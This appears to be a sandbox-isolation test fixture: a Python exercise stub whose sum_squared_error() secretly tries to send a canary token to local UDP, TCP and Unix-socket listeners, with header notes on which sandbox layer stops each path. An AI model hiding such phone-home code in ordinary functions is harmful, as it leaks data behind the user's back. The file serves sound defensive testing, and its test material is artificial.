# exercise: ex02_cost
# category: 7 network
# tries: send its token to listeners the test runs on this machine: a UDP datagram and a TCP connection to 127.0.0.1, and a connection to a named Unix socket in /tmp
# stopped_by: no-network (a network namespace of its own: no route even to the host's loopback), seccomp (no new sockets), landlock (TCP connect); the named Unix socket only by seccomp: it is no network-namespace object and Landlock ABI <= 7 does not check connect() on it
# max_score: 0
"""A stub that phones home."""
import json
import socket

ATTACK = True
TOKEN = "__TOKEN__"
UDP_PORT = int("__UDP__")
TCP_PORT = int("__TCP__")
UNIX_PATH = "__USOCK__"


def _phone_home():
    done = []
    message = f"zz_kit_attack_{TOKEN}".encode()
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(message, ("127.0.0.1", UDP_PORT))
            done.append("udp")
    except OSError:
        pass
    try:
        with socket.create_connection(("127.0.0.1", TCP_PORT), timeout=1.0) as tcp:
            tcp.sendall(message)
            done.append("tcp")
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as unix:
            unix.settimeout(1.0)
            unix.connect(UNIX_PATH)
            unix.sendall(message)
            done.append("unix")
    except OSError:
        pass
    return done


def sum_squared_error(prediction, target):
    raise RuntimeError("ATTACK-RESULT " + json.dumps({"b": _phone_home() if ATTACK else []}))


def mse(prediction, target):
    raise NotImplementedError("ex02: mse() is not implemented yet")
